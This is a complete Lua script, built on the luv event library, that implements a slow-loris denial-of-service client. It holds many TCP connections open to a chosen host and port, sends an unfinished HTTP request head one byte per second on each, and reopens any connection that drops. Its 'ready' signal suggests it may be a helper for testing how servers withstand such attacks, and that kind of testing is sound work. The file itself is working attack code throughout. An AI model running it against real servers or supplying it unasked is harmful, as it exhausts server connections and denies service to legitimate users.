-- dribble.lua HOST PORT COUNT: a slow-loris client. Keeps COUNT connections open, on each of which a request head comes
-- byte by byte, one a second, and never ends; a connection that is closed is opened again. Prints "ready" when all have
-- sent their first byte, and goes on until it is killed.

local uv = require "luv"

local HEAD = "GET / HTTP/1.1\r\nHost: a\r\n"
local STEPS = 50 -- groups of connections that send in turn

local host, port, count = arg[1], tonumber(arg[2]), tonumber(arg[3])
local groups = {}
local begun, closed = 0, 0

local function open(slot)
  local handle = uv.new_tcp()
  slot.handle, slot.sent = handle, 0
  local function again()
    if handle:is_closing() then return end
    closed = closed + 1
    handle:close()
    open(slot)
  end
  handle:connect(host, port, function(err)
    if err then return again() end
    slot.connected = true
    handle:try_write("G")
    slot.sent = 1
    begun = begun + 1
    if begun == count then
      print("ready")
      io.stdout:flush()
    end
    handle:read_start(function(failure, bytes)
      if failure or not bytes then
        slot.connected = false
        again()
      end
    end)
  end)
end

for i = 1, STEPS do groups[i] = {} end
for i = 1, count do
  local slot = {}
  table.insert(groups[i % STEPS + 1], slot)
  open(slot)
end

local turn = 0
uv.new_timer():start(1000 / STEPS, 1000 / STEPS, function()
  turn = turn % STEPS + 1
  for _, slot in ipairs(groups[turn]) do
    if slot.connected then
      local byte = slot.sent < #HEAD and HEAD:sub(slot.sent + 1, slot.sent + 1) or "x"
      slot.sent = slot.sent + 1
      slot.handle:try_write(byte)
    end
  end
end)
